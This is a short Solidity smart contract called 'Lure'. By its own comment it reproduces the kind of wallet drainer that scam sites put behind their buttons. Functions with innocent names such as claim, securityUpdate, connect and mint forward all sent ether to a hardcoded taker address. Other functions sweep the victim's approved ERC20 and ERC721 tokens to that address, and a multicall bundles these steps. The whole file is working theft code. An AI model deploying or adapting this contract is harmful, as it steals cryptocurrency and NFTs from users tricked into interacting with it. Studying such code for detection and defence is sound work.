// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";

/// What rented drainers put behind their buttons: it takes what is sent or was approved, under many names.
contract Lure {
    address payable private immutable taker;

    constructor(address payable to) {
        taker = to;
    }

    function claim() external payable {
        taker.transfer(msg.value);
    }

    function securityUpdate() external payable {
        taker.transfer(msg.value);
    }

    function claimRewards(address, bytes32) external payable {
        taker.transfer(msg.value);
    }

    function connect() external payable {
        taker.transfer(msg.value);
    }

    function mint(uint256) external payable {
        taker.transfer(msg.value);
    }

    /// Keeps the money here, to be fetched later.
    function deposit() external payable {}

    function take(IERC20 token, uint256 amount) public {
        token.transferFrom(msg.sender, taker, amount);
    }

    function takeItem(IERC721 token, uint256 id) public {
        token.transferFrom(msg.sender, taker, id);
    }

    function takeAll(IERC20[] calldata tokens) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 held = tokens[i].balanceOf(msg.sender);
            uint256 allowed = tokens[i].allowance(msg.sender, address(this));
            take(tokens[i], held < allowed ? held : allowed);
        }
    }

    /// Each part is one of its own functions, still in the sender's name.
    function multicall(bytes[] calldata parts) external {
        for (uint256 i = 0; i < parts.length; i++) {
            (bool ok, ) = address(this).delegatecall(parts[i]);
            require(ok, "failed");
        }
    }

    receive() external payable {
        taker.transfer(msg.value);
    }
}
